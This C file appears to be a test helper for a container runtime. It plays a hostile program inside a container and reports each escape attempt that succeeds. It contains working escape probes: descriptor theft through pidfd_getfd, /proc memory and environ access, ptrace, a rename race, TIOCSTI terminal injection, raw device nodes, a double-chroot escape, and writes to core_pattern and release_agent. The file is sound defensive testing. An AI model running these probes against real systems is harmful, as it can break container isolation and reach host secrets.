/*
 * What a hostile program in a container tries, for attack_*_test.ts: it prints
 * a line that begins with "FELL" for whatever worked and should not have.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif
#define EXCHANGE 2u

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* Says each thing once: a pipe that is full would stop the attack. */
static void fell(const char *what)
{
	static char said[4096];

	if (strstr(said, what) || strlen(said) + strlen(what) + 2 > sizeof(said))
		return;
	strcat(said, what);
	strcat(said, "\n");
	printf("FELL %s\n", what);
	fflush(stdout);
}

/* The memory of a process that is on its way into the container is the
 * helper's: its name says so. */
static int is_joining(int pid)
{
	char path[64], comm[32] = "";
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/comm", pid);
	fd = open(path, O_RDONLY);
	if (fd < 0)
		return 0;
	if (read(fd, comm, sizeof(comm) - 1) < 0)
		comm[0] = 0;
	close(fd);
	return !strncmp(comm, "rustyrun", 8);
}

static void try_file(int pid, const char *name, int flags)
{
	char path[320];
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/%s", pid, name);
	fd = open(path, flags);
	if (fd < 0)
		return;
	/* It may have become the command meanwhile, which is ours. */
	if (is_joining(pid))
		fell(name);
	close(fd);
}

static void attack_process(int pid)
{
	int pidfd = (int)syscall(SYS_pidfd_open, pid, 0), fd, status;
	pid_t child;

	for (int n = 0; n < 24 && pidfd >= 0; n++) {
		fd = (int)syscall(SYS_pidfd_getfd, pidfd, n, 0);
		if (fd < 0)
			continue;
		if (is_joining(pid))
			fell("pidfd_getfd");
		close(fd);
	}
	if (pidfd >= 0)
		close(pidfd);
	try_file(pid, "root", O_RDONLY | O_DIRECTORY);
	try_file(pid, "cwd", O_RDONLY | O_DIRECTORY);
	try_file(pid, "exe", O_WRONLY);
	try_file(pid, "exe", O_RDONLY);
	try_file(pid, "mem", O_RDWR);
	try_file(pid, "environ", O_RDONLY);
	for (int n = 0; n < 24; n++) {
		char name[16];

		snprintf(name, sizeof(name), "fd/%d", n);
		try_file(pid, name, O_PATH);
	}
	/* In a process of its own: what is traced stays so until that ends. */
	child = fork();
	if (child == 0) {
		if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0 && is_joining(pid))
			_exit(1);
		_exit(0);
	}
	if (child > 0 && waitpid(child, &status, 0) == child &&
	    WIFEXITED(status) && WEXITSTATUS(status))
		fell("ptrace");
}

/* scan SECONDS: attacks every process of rustyrun's that it can see; makes
 * /tmp/seen at the first. */
static int scan(double seconds)
{
	double end = now() + seconds;
	unsigned long seen = 0;

	while (now() < end && access("/tmp/stop", F_OK) != 0) {
		DIR *proc = opendir("/proc");
		struct dirent *e;

		while (proc && (e = readdir(proc))) {
			int pid = atoi(e->d_name);

			if (pid <= 0 || pid == getpid() || !is_joining(pid))
				continue;
			if (!seen++)
				close(open("/tmp/seen", O_WRONLY | O_CREAT, 0600));
			attack_process(pid);
		}
		if (proc)
			closedir(proc);
	}
	printf("saw %s\n", seen ? "some" : "none");
	return 0;
}

/* swap A B STOP: exchanges two names as fast as it can until STOP is there. */
static int swap(const char *a, const char *b, const char *stop)
{
	unsigned long n = 0;

	while (access(stop, F_OK) != 0) {
		syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, EXCHANGE);
		n++;
	}
	printf("swapped %s\n", n > 100 ? "often" : "seldom");
	return 0;
}

/* tty: puts a character into the input of what it has as 0, 1 and 2. */
static int tty(void)
{
	char x = '!';

	for (int fd = 0; fd < 3; fd++) {
		if (ioctl(fd, TIOCSTI, &x) == 0)
			printf("FELL TIOCSTI on %d\n", fd);
		if (ioctl(fd, TIOCSCTTY, 1) == 0)
			printf("FELL TIOCSCTTY on %d\n", fd);
	}
	printf("tried the terminal\n");
	return 0;
}

static void write_to(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);

	if (fd < 0)
		return;
	if (write(fd, text, strlen(text)) > 0)
		printf("FELL write %s\n", path);
	close(fd);
}

static void try_devices(void)
{
	static const struct {
		mode_t type;
		unsigned int major, minor;
	} nodes[] = {
		{ S_IFBLK, 254, 0 }, { S_IFBLK, 253, 0 }, { S_IFBLK, 8, 0 },
		{ S_IFBLK, 7, 0 },   { S_IFCHR, 1, 1 },	  { S_IFCHR, 1, 2 },
		{ S_IFCHR, 1, 4 },   { S_IFCHR, 1, 11 },  { S_IFCHR, 10, 237 },
		{ S_IFCHR, 4, 0 },   { S_IFCHR, 4, 64 },  { S_IFCHR, 10, 229 },
	};
	char path[32];

	for (size_t i = 0; i < sizeof(nodes) / sizeof(nodes[0]); i++) {
		int fd;

		snprintf(path, sizeof(path), "/tmp/node%zu", i);
		if (mknod(path, nodes[i].type | 0666,
			  makedev(nodes[i].major, nodes[i].minor)) < 0)
			continue;
		fd = open(path, O_RDWR | O_NONBLOCK);
		/* ENXIO: let through, and no such device. */
		if (fd >= 0 || errno == ENXIO || errno == ENODEV)
			printf("FELL device %u:%u\n", nodes[i].major,
			       nodes[i].minor);
		if (fd >= 0)
			close(fd);
		unlink(path);
	}
}

/* climb: chroot(2) twice leaves a chroot whose directory is not the root of
 * its mount namespace. Prints what is there then. */
static void climb(void)
{
	struct stat st;
	int fd = open("/", O_RDONLY | O_DIRECTORY);

	if (mkdir("/tmp/climb", 0755) < 0 && errno != EEXIST)
		return;
	if (fd < 0 || chroot("/tmp/climb") < 0) {
		printf("climb: no chroot\n");
		return;
	}
	if (fchdir(fd) == 0)
		for (int i = 0; i < 32; i++)
			if (chdir("..") < 0)
				break;
	if (chroot(".") == 0 && stat("/this-is-the-container", &st) < 0)
		printf("FELL chroot\n");
	close(fd);
}

/* surface: everything at once that needs no other process. */
static int surface(void)
{
	static const char *const files[] = {
		"/proc/sys/kernel/core_pattern",
		"/proc/sys/kernel/modprobe",
		"/proc/sys/vm/overcommit_memory",
		"/proc/sys/fs/binfmt_misc/register",
		"/proc/sysrq-trigger",
		"/proc/irq/default_smp_affinity",
		"/sys/kernel/uevent_helper",
		"/sys/kernel/mm/ksm/run",
		"/sys/fs/cgroup/release_agent",
		"/sys/fs/cgroup/memory/release_agent",
		"/sys/fs/cgroup/memory/notify_on_release",
		"/sys/fs/cgroup/memory/memory.limit_in_bytes",
		"/sys/fs/cgroup/devices/devices.allow",
		"/sys/fs/cgroup/cgroup.procs",
		"/sys/fs/cgroup/unified/cgroup.procs",
		"/sys/power/state",
	};
	static const char *const masked[] = { "/proc/kcore", "/proc/keys",
					      "/proc/timer_list",
					      "/proc/sched_debug" };
	char text[64];

	for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++)
		write_to(files[i], "1");
	for (size_t i = 0; i < sizeof(masked) / sizeof(masked[0]); i++) {
		int fd = open(masked[i], O_RDONLY);

		if (fd >= 0 && read(fd, text, sizeof(text)) > 0)
			printf("FELL read %s\n", masked[i]);
		if (fd >= 0)
			close(fd);
	}
	if (mount("none", "/tmp", "tmpfs", 0, NULL) == 0)
		printf("FELL mount\n");
	if (umount2("/proc", MNT_DETACH) == 0)
		printf("FELL umount\n");
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0)
		printf("FELL unshare\n");
	if (syscall(SYS_open_by_handle_at, 0, text, 0) == 0 || errno != EPERM)
		printf("FELL open_by_handle_at %d\n", errno);
	if (syscall(SYS_keyctl, 0, -4, 1) >= 0)
		printf("FELL keyctl\n");
	try_devices();
	for (int fd = 3; fd < 1024; fd++)
		if (fcntl(fd, F_GETFD) >= 0)
			printf("FELL descriptor %d\n", fd);
	climb();
	printf("tried the surface\n");
	return 0;
}

int main(int argc, char **argv)
{
	const char *what = argc > 1 ? argv[1] : "";

	if (!strcmp(what, "scan") && argc == 3)
		return scan(atof(argv[2]));
	if (!strcmp(what, "swap") && argc == 5)
		return swap(argv[2], argv[3], argv[4]);
	if (!strcmp(what, "tty"))
		return tty();
	if (!strcmp(what, "surface"))
		return surface();
	return 2;
}
